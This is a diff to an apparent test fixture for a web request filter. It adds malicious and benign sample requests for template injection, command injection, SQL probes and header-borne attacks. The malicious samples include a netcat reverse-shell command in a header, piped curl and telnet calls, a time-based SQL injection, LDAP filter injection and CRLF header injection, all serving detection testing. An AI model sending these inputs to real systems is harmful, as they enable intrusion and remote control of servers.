@@ -106,8 +106,14 @@ CLASSES: dict[str, tuple[list[Req], list[Req]]] = {
             Req("/hello?name={{+6*7+}}"),
             Req("/", {"Cookie": "tpl=%24%7B7*191%7D"}),
             Req("/", referer("t={%25+include+'x'+%25}")),
+            Req("/hi?n=%7B%25+print+7*7+%25%7D"),  # any whole statement tag
+            Req("/hi?n=%40(6*7)"),  # Razor
         ],
-        [Req("/c", body="comment=Use+{braces}+for+sets%2C+5*7+%3D+35%2C+tag+%23{sale}"), Req("/s?q=5*7+tiles")],
+        [
+            Req("/c", body="comment=Use+{braces}+for+sets%2C+5*7+%3D+35%2C+tag+%23{sale}"),
+            Req("/s?q=5*7+tiles"),
+            Req("/c", body="comment=Save+20%25+{now}+and+mail+me+@(home)"),
+        ],
     ),
     "log4shell": (
         [
@@ -153,11 +159,13 @@ CLASSES: dict[str, tuple[list[Req], list[Req]]] = {
             Req("/download/x%7C%7Ccurl%20-s%20http%3A%2F%2F203.0.113.5%2Fa"),
             Req("/", {"Cookie": "host=8.8.8.8%253Bcat%2520%252Fetc%252Fissue"}),  # encoded twice
             Req("/", referer("h=1.1.1.1;sleep 7")),
+            Req("/t?h=x%7Ctelnet+198.51.100.3+23"),  # an address as the argument
         ],
         [
             Req("/c", body="comment=Works+on+Linux+%26+macOS%3B+drivers+not+needed"),
             Req("/c", body="comment=Size+M+%7C+colour+blue+%7C+fits+type+B"),
             Req("/s?q=sleep+well%3B+8+hours"),
+            Req("/c", body="comment=Server+at+198.51.100.7%2C+ping+198.51.100.8+if+down"),
         ],
     ),
     "sql_probe": (
@@ -167,12 +175,29 @@ CLASSES: dict[str, tuple[list[Req], list[Req]]] = {
             Req("/", referer("id=1 or 7=7")),
             Req("/login", body="user=admin%27+or"),  # the query's remainder completes the condition
             Req("/", {"Cookie": "u=x%26apos%3B%2520and%2520--"}),  # an entity t:htmlEntityDecode leaves
+            Req("/s?q=x%27+and+benchmark(9,md5(1))--"),  # a function injections call
         ],
         [
             Req("/c", body="comment=Tom+O%27Brien+and+Mary+say+hi"),
             Req("/s?q=black+or+white"),
             Req("/s?q=rock+%27n%27+roll+or+jazz"),
             Req("/c", body="comment=Tom+said+%27yes%27+and+left"),
+        ],
+    ),
+    "in_any_header": (
+        [
+            Req("/", {"X-Forwarded-Host": "shop.example;id"}),
+            Req("/", {"X-Device": "a|nc 198.51.100.2 4444 -e /bin/sh"}),
+            Req("/", {"X-Name": "{{7*7}}"}),
+            Req("/", {"X-User": "*)(|(password=*))"}),
+            Req("/", {"X-Forwarded-For": "1' or sleep(5)#"}),
+            Req("/", {"X-Note": "a%0d%0aSet-Cookie: x=1"}),
+        ],
+        [
+            Req("/", {"sec-ch-ua": '"Not_A Brand";v="8", "Chromium";v="120"', "sec-ch-ua-platform": '"Windows"'}),
+            Req("/", {"X-Note": "Order (2) | gift wrap & card; deliver after 5pm", "X-Title": "Is 'A' or 'B' better?"}),
+            Req("/", {"Forwarded": "for=198.51.100.7;proto=https", "If-None-Match": 'W/"5e-1b2c3d4e"'}),
+            Req("/", {"Referer": "https://www.google.com/search?q=blue+shoes+(size+42)&oq=blue&ie=UTF-8"}),
         ],
     ),
     "sql_system_procedure": (
